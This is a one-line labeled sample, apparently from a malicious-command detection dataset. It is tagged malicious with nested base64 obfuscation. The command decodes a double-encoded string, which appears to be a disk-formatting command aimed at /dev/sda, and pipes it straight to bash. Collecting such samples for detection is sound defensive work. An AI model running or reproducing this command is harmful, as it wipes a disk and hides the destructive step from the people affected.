# label: malicious; obfuscated: base64,nested
echo Yld0bWN5NWxlSFEwSUM5a1pYWXZjMlJo | base64 -d | base64 -d | bash
